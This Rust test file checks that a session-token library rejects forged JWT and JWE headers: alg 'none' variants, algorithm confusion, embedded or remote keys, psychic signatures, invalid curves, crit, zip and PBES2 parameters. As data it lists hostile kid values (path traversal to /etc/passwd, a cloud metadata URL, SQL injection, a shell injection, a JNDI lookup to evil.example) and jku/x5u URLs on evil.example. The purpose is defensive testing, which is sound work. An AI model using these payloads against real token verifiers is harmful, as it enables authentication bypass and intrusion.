//! Headers that try to choose how the token is verified, or with what.

use crate::forge::{
    CLAIMS, FORMATS, accepted, accepted_as_foreign, authjs_key, base64, encrypt, header,
    header_with, kid, next_auth_key, refused, seal, sign, signed_kid,
};
use crate::support::{Counter, NOW, SECRET, active, at, auth, signed_in};
use waxseal::{Algorithm, Format, Keyring, Outcome, Reason, Renewed};

#[test]
fn what_is_forged_well_is_accepted() {
    for format in FORMATS {
        accepted(format, &seal(format, header(format), CLAIMS));
        accepted_as_foreign(format, &header_with(format, r#""x":[1]"#));
    }
}

/// Every `alg` of RFC 7518 and RFC 8037, and names that some library knows.
const ALGORITHMS: [&str; 32] = [
    "HS256",
    "HS384",
    "HS512",
    "RS256",
    "RS384",
    "RS512",
    "PS256",
    "PS384",
    "PS512",
    "ES256",
    "ES256K",
    "ES384",
    "ES512",
    "EdDSA",
    "Ed25519",
    "RSA1_5",
    "RSA-OAEP",
    "RSA-OAEP-256",
    "A128KW",
    "A192KW",
    "A256KW",
    "A128GCMKW",
    "A256GCMKW",
    "dir",
    "ECDH-ES",
    "ECDH-ES+A128KW",
    "ECDH-ES+A256KW",
    "PBES2-HS256+A128KW",
    "PBES2-HS512+A256KW",
    "none",
    "HMAC",
    "A256GCM",
];

#[test]
fn attack_01_alg_none_in_every_spelling() {
    let spellings = [
        r#""none""#,
        r#""None""#,
        r#""NONE""#,
        r#""nOnE""#,
        r#""""#,
        r#"" none""#,
        r#""none ""#,
        r#""none\u0000""#,
        r#""no\u006ee""#,
        r#""ｎｏｎｅ""#,
        r#""hs256""#,
        r#""Hs256""#,
        r#""HS256 ""#,
        r#"" HS256""#,
        r#""HS256\u0000""#,
        r#""DIR""#,
        r#""dir ""#,
        "null",
        "false",
        "0",
        "[]",
        "{}",
        r#"["none"]"#,
        r#"["HS256"]"#,
        r#"["dir"]"#,
    ];
    for format in FORMATS {
        let enc = match format {
            Format::Authjs => r#","enc":"A256CBC-HS512""#,
            Format::NextAuth => r#","enc":"A256GCM""#,
            _ => "",
        };
        for spelling in spellings {
            let forged = format!(r#"{{"alg":{spelling}{enc}}}"#);
            let sealed = seal(format, &forged, CLAIMS);
            assert_eq!(refused(format, &sealed), Reason::Algorithm, "{forged}");
            // And as whoever has no key would send it.
            let unsealed = format!("{}.{}", base64(&forged), base64(CLAIMS));
            for token in [unsealed.clone(), format!("{unsealed}.")] {
                let reason = refused(format, &token);
                let shape = [Reason::Algorithm, Reason::Format, Reason::Malformed];
                assert!(shape.contains(&reason), "{token} {reason}");
            }
        }
        for forged in [
            "{}",
            r#"{"typ":"JWT"}"#,
            &format!("{{\"typ\":\"JWT\"{enc}}}"),
        ] {
            assert_eq!(
                refused(format, &seal(format, forged, CLAIMS)),
                Reason::Algorithm
            );
        }
    }
}

#[test]
fn attack_02_the_header_chooses_no_algorithm() {
    for algorithm in ALGORITHMS {
        // Under the right key of each format, and with its right tag.
        let signed = seal(
            Format::Signed,
            format!(r#"{{"alg":"{algorithm}"}}"#),
            CLAIMS,
        );
        match algorithm {
            // It says not what it is for.
            "HS256" => assert_eq!(refused(Format::Signed, &signed), Reason::Format),
            _ => assert_eq!(refused(Format::Signed, &signed), Reason::Algorithm),
        }
        for format in [Format::Authjs, Format::NextAuth] {
            for enc in [
                "A128CBC-HS256",
                "A192CBC-HS384",
                "A256CBC-HS512",
                "A128GCM",
                "A192GCM",
                "A256GCM",
                "C20P",
                "XC20P",
                "none",
                "",
            ] {
                let forged = format!(r#"{{"alg":"{algorithm}","enc":"{enc}"}}"#);
                let token = seal(format, &forged, CLAIMS);
                match (format, algorithm, enc) {
                    (Format::Authjs, "dir", "A256CBC-HS512")
                    | (Format::NextAuth, "dir", "A256GCM") => accepted(format, &token),
                    // The one other encryption of Auth.js, with a key and an IV of
                    // other sizes.
                    (Format::Authjs, "dir", "A256GCM") => {
                        assert_eq!(refused(format, &token), Reason::Signature);
                    }
                    _ => assert_eq!(refused(format, &token), Reason::Algorithm, "{forged}"),
                }
            }
        }
    }
}

#[test]
fn attack_02_a_signature_by_another_hash_of_the_same_secret_is_refused() {
    let algorithms = [Algorithm::Hs256, Algorithm::Hs384, Algorithm::Hs512];
    for theirs in algorithms {
        let keys = Keyring::new(Format::Signed, theirs, &[SECRET], "waxseal.session-token");
        let token = keys.expect("keys").encode(
            CLAIMS,
            NOW / 1000,
            NOW / 1000 + 100,
            &mut Counter::default(),
        );
        let cookies = format!("waxseal.session-token={}", token.expect("sealed"));
        for ours in algorithms {
            let auth = auth(|config| config.algorithm = ours);
            let outcome = auth.verify(&at(&cookies, NOW), &mut Counter::default());
            match ours == theirs {
                true => assert!(matches!(outcome, Outcome::Active { .. })),
                false => assert!(matches!(
                    outcome,
                    Outcome::Invalid {
                        reason: Reason::Algorithm,
                        ..
                    }
                )),
            }
        }
    }
}

#[test]
fn attack_02_a_token_is_opened_only_as_the_format_of_its_cookie() {
    let keys = |format: Format, salt: &str| {
        Keyring::new(format, Algorithm::Hs256, &[SECRET], salt).expect("keys")
    };
    let seal = |keys: &Keyring| {
        keys.encode(
            CLAIMS,
            NOW / 1000,
            NOW / 1000 + 100,
            &mut Counter::default(),
        )
        .expect("sealed")
    };
    let jws = seal(&keys(Format::Signed, "waxseal.session-token"));
    let v4 = seal(&keys(Format::NextAuth, ""));
    let v5 = seal(&keys(Format::Authjs, "authjs.session-token"));
    let all = auth(|config| {
        config.accept = vec![Format::Authjs.into(), Format::NextAuth.into()];
    });
    let verify = |cookie: &str| all.verify(&at(cookie, NOW), &mut Counter::default());
    for (cookie, expected) in [
        (format!("authjs.session-token={jws}"), Reason::Format),
        (format!("next-auth.session-token={jws}"), Reason::Format),
        (format!("waxseal.session-token={v5}"), Reason::Format),
        (format!("authjs.session-token={v4}"), Reason::Signature),
        (format!("next-auth.session-token={v5}"), Reason::Algorithm),
        // The salt is the cookie's name.
        (
            format!("__Secure-authjs.session-token={v5}"),
            Reason::UnknownKey,
        ),
    ] {
        let Outcome::Invalid { reason, .. } = verify(&cookie) else {
            panic!("{cookie} is not refused")
        };
        assert_eq!(reason, expected, "{cookie}");
    }
    let Outcome::Active { renewed, .. } = verify(&format!("authjs.session-token={v5}")) else {
        panic!("the right cookie is refused")
    };
    assert_eq!(renewed, Some(Renewed::Rekey));
}

/// The early `A256GCM` tokens of Auth.js, whose key is half of the other's.
#[test]
fn attack_02_the_second_encryption_of_authjs_has_its_own_kid() {
    let format = Format::Authjs;
    let key = authjs_key(SECRET, format.cookie_name());
    let half: [u8; 32] = key[..32].try_into().expect("half of 64");
    let token = |kid: &str, key: &[u8; 32]| {
        let header = format!(r#"{{"alg":"dir","enc":"A256GCM","kid":"{kid}"}}"#);
        crate::forge::gcm(&base64(header), CLAIMS.as_bytes(), key)
    };
    accepted(format, &token(&kid(&half), &half));
    assert_eq!(
        refused(format, &token(&kid(&key), &half)),
        Reason::UnknownKey
    );
    let v4 = next_auth_key(SECRET, "");
    assert_eq!(refused(format, &token(&kid(&half), &v4)), Reason::Signature);
    // And the other way round.
    let header = format!(
        r#"{{"alg":"dir","enc":"A256CBC-HS512","kid":"{}"}}"#,
        kid(&half)
    );
    let token = encrypt(format, &base64(header), CLAIMS.as_bytes());
    assert_eq!(refused(format, &token), Reason::UnknownKey);
}

/// Values of `kid` that some verifier has opened a file, asked a database or
/// crashed with.
fn hostile_kids(right: &str) -> Vec<String> {
    let mut kids: Vec<String> = [
        "",
        "0",
        "../../../../../../dev/null",
        "/etc/passwd",
        "file:///dev/null",
        "http://169.254.169.254/latest/meta-data",
        "x' UNION SELECT 'AAAA",
        "' OR 1=1 --",
        "| touch /tmp/x",
        "${jndi:ldap://evil.example/x}",
        "%00",
        "\\u0000",
        "__proto__",
        "constructor",
        "\\ud83d\\ude00",
    ]
    .map(String::from)
    .into();
    kids.push("k".repeat(2500));
    kids.push("é".repeat(500));
    kids.push(format!("{right}="));
    kids.push(format!(" {right}"));
    kids.push(format!("{right}\\u0000"));
    kids.push(right[..right.len() - 1].to_owned());
    kids.push(right.to_ascii_uppercase());
    // The first letter as another alphabet has it.
    kids.push(format!("а{}", &right[1..]));
    kids
}

#[test]
fn attack_03_kid_is_only_compared() {
    for format in [Format::Signed, Format::Authjs] {
        let (algorithm, right) = match format {
            Format::Signed => (
                r#""alg":"HS256","typ":"waxseal.session-token+jwt""#,
                signed_kid(SECRET),
            ),
            _ => {
                let key = authjs_key(SECRET, format.cookie_name());
                (r#""alg":"dir","enc":"A256CBC-HS512""#, kid(&key))
            }
        };
        let token = |kid: &str| {
            let forged = format!(r#"{{{algorithm},"kid":{kid}}}"#);
            seal(format, forged, CLAIMS)
        };
        accepted(format, &token(&format!("\"{right}\"")));
        for hostile in hostile_kids(&right) {
            let reason = refused(format, &token(&format!("\"{hostile}\"")));
            assert_eq!(reason, Reason::UnknownKey, "{hostile}");
        }
        for value in ["null", "true", "0", "-1", "1.5", "[]", "{}", "[\"a\"]"] {
            assert_eq!(
                refused(format, &token(value)),
                Reason::UnknownKey,
                "{value}"
            );
        }
        for value in ["NaN", "1e999", r#""\ud83d"#, "{\"__proto__\":1}"] {
            assert_eq!(refused(format, &token(value)), Reason::Malformed, "{value}");
        }
    }
    // A v4 token names no key: there the member has no meaning.
    for hostile in hostile_kids(&kid(SECRET.as_bytes())) {
        let forged = header_with(Format::NextAuth, &format!("\"kid\":\"{hostile}\""));
        accepted(Format::NextAuth, &seal(Format::NextAuth, forged, CLAIMS));
    }
}

/// `kid` narrows the choice down and never widens it.
#[test]
fn attack_03_kid_of_one_secret_opens_nothing_of_another() {
    const OTHER: &str = "another secret of at least thirty-two bytes";
    let both = auth(|config| config.secrets = vec![OTHER.into(), SECRET.into()]);
    let reason = |kid_of: &str, key: &str| {
        let kid = signed_kid(kid_of);
        let header =
            format!(r#"{{"alg":"HS256","typ":"waxseal.session-token+jwt","kid":"{kid}"}}"#);
        let token = sign(&base64(header), &base64(CLAIMS), key);
        let cookies = format!("waxseal.session-token={token}");
        match both.read(&at(&cookies, NOW)) {
            Outcome::Invalid { reason, .. } => Some(reason),
            _ => None,
        }
    };
    assert_eq!(reason(SECRET, SECRET), None);
    assert_eq!(reason(OTHER, OTHER), None);
    assert_eq!(reason(OTHER, SECRET), Some(Reason::Signature));
    assert_eq!(reason(SECRET, OTHER), Some(Reason::Signature));
}

#[test]
fn attack_04_a_key_that_comes_with_the_token_is_refused() {
    const THEIRS: &str = "the attacker's own secret of forty-odd bytes";
    let jwk = format!(r#"{{"kty":"oct","k":"{}"}}"#, base64(THEIRS));
    for format in FORMATS {
        for member in [
            format!(r#""jwk":{jwk}"#),
            r#""jwk":null"#.into(),
            r#""jku":"https://evil.example/keys.json""#.into(),
            r#""x5u":"https://evil.example/cert.pem""#.into(),
            r#""x5c":["MIIB"]"#.into(),
            r#""x5c":[]"#.into(),
            r#""j\u0077k":{}"#.into(),
        ] {
            let forged = header_with(format, &member);
            let token = seal(format, &forged, CLAIMS);
            assert_eq!(refused(format, &token), Reason::Malformed, "{forged}");
        }
        // What is merely like it has no meaning, so that the right key decides.
        accepted_as_foreign(format, &header_with(format, &format!(r#""JWK":{jwk}"#)));
    }
    let forged = format!(r#"{{"alg":"HS256","jwk":{jwk}}}"#);
    let token = sign(&base64(&forged), &base64(CLAIMS), THEIRS);
    assert_eq!(refused(Format::Signed, &token), Reason::Malformed);
}

#[test]
fn attack_05_psychic_signatures_are_refused() {
    let order = "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551";
    let order: Vec<u8> = (0..32)
        .map(|at| u8::from_str_radix(&order[2 * at..2 * at + 2], 16).expect("hex"))
        .collect();
    let signatures = [
        vec![0; 64],
        vec![0; 96],
        vec![0; 132],
        vec![0; 256],
        order.repeat(2),
        vec![0xff; 64],
        // DER, with r = s = 0 and with an empty list.
        vec![0x30, 6, 2, 1, 0, 2, 1, 0],
        vec![0x30, 0],
        vec![],
    ];
    let payload = base64(CLAIMS);
    for algorithm in [
        "ES256", "ES384", "ES512", "ES256K", "EdDSA", "RS256", "PS256",
    ] {
        let header = base64(format!(r#"{{"alg":"{algorithm}","typ":"JWT"}}"#));
        for signature in &signatures {
            let token = format!("{header}.{payload}.{}", base64(signature));
            assert_eq!(refused(Format::Signed, &token), Reason::Algorithm);
        }
    }
    // The like for an HMAC.
    let header = base64(header(Format::Signed));
    for signature in signatures.into_iter().chain([vec![0; 32], vec![0xff; 32]]) {
        let token = format!("{header}.{payload}.{}", base64(signature));
        assert_eq!(refused(Format::Signed, &token), Reason::Signature);
    }
}

#[test]
fn attack_06_key_agreement_on_an_invalid_curve_is_refused() {
    let points = [
        // Not on P-256; at infinity; of another curve; without coordinates.
        r#"{"kty":"EC","crv":"P-256","x":"AQ","y":"AQ"}"#,
        r#"{"kty":"EC","crv":"P-256","x":"AA","y":"AA"}"#,
        r#"{"kty":"OKP","crv":"X25519","x":"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"}"#,
        "{}",
        "null",
    ];
    for (format, enc) in [
        (Format::Authjs, "A256CBC-HS512"),
        (Format::NextAuth, "A256GCM"),
    ] {
        for algorithm in ["ECDH-ES", "ECDH-ES+A256KW"] {
            for point in points {
                let forged = format!(r#"{{"alg":"{algorithm}","enc":"{enc}","epk":{point}}}"#);
                let token = seal(format, &forged, CLAIMS);
                assert_eq!(refused(format, &token), Reason::Algorithm, "{forged}");
                // With an encrypted key, whose place is empty in all of our formats.
                let token = token.replacen("..", ".AAAA.", 1);
                assert_eq!(refused(format, &token), Reason::Malformed, "{forged}");
            }
        }
        // `epk` beside `dir` has no meaning.
        let member = format!(r#""epk":{}"#, points[0]);
        accepted(format, &seal(format, header_with(format, &member), CLAIMS));
    }
}

#[test]
fn attack_07_crit_is_refused_whatever_it_lists() {
    for format in FORMATS {
        for member in [
            r#""crit":["exp"],"exp":9999999999"#,
            r#""crit":["http://example.invalid/UNDEFINED"],"http://example.invalid/UNDEFINED":true"#,
            r#""crit":["absent"]"#,
            r#""crit":[]"#,
            r#""crit":[""]"#,
            r#""crit":["alg"]"#,
            r#""crit":["b64"],"b64":false"#,
            r#""crit":["b64"],"b64":true"#,
            r#""b64":false"#,
            r#""crit":null"#,
            r#""crit":"exp""#,
            r#""crit":{"exp":1}"#,
            r#""crit":[1]"#,
            r#""cr\u0069t":["absent"]"#,
        ] {
            let forged = header_with(format, member);
            let token = seal(format, &forged, CLAIMS);
            assert_eq!(refused(format, &token), Reason::Malformed, "{forged}");
        }
    }
}

#[test]
fn attack_08_zip_is_refused_before_anything_is_decrypted() {
    for format in FORMATS {
        for member in [
            r#""zip":"DEF""#,
            r#""zip":"def""#,
            r#""zip":"GZIP""#,
            r#""zip":"none""#,
            r#""zip":"""#,
            r#""zip":null"#,
            r#""zip":0"#,
            r#""z\u0069p":"DEF""#,
        ] {
            let forged = header_with(format, member);
            let token = seal(format, &forged, CLAIMS);
            assert_eq!(refused(format, &token), Reason::Malformed, "{forged}");
            // The same without the right tag: it was not even looked at.
            let end = token.len() - 4;
            let unsealed = format!("{}AAAA", &token[..end]);
            assert_eq!(refused(format, &unsealed), Reason::Malformed, "{forged}");
        }
    }
}

#[test]
fn attack_09_a_password_based_key_is_never_derived() {
    for (format, enc) in [
        (Format::Authjs, "A256CBC-HS512"),
        (Format::NextAuth, "A256GCM"),
    ] {
        for algorithm in [
            "PBES2-HS256+A128KW",
            "PBES2-HS384+A192KW",
            "PBES2-HS512+A256KW",
        ] {
            for count in ["2147483647", "9007199254740991", "1e308", "-1", "0", "null"] {
                let forged = format!(
                    r#"{{"alg":"{algorithm}","enc":"{enc}","p2s":"AAAAAAAAAAA","p2c":{count}}}"#
                );
                let token = seal(format, &forged, CLAIMS);
                assert_eq!(refused(format, &token), Reason::Algorithm, "{forged}");
                let token = token.replacen("..", &format!(".{}.", base64([0; 40])), 1);
                assert_eq!(refused(format, &token), Reason::Malformed, "{forged}");
            }
        }
    }
}

/// No response of the core ever tells the browser to keep a forged cookie.
#[test]
fn attack_01_a_refused_token_is_never_renewed() {
    let auth = auth(|_| {});
    let good = signed_in(&auth, CLAIMS, NOW);
    let token = good.split_once('=').expect("a pair").1;
    let payload = token.split('.').nth(1).expect("a payload");
    let none = base64(r#"{"alg":"none"}"#);
    let cookies = format!("waxseal.session-token={none}.{payload}.");
    for step in [0, 2 * 86_400_000] {
        let request = at(&cookies, NOW + step);
        let outcome = auth.resolve(&request, r#"{"sub":"2"}"#, &mut Counter::default());
        let Ok(Outcome::Invalid { writes, .. }) = outcome else {
            panic!("{outcome:?}")
        };
        assert!(writes.is_empty());
    }
    assert!(
        active(auth.verify(&at(&good, NOW), &mut Counter::default()))
            .2
            .is_empty()
    );
}
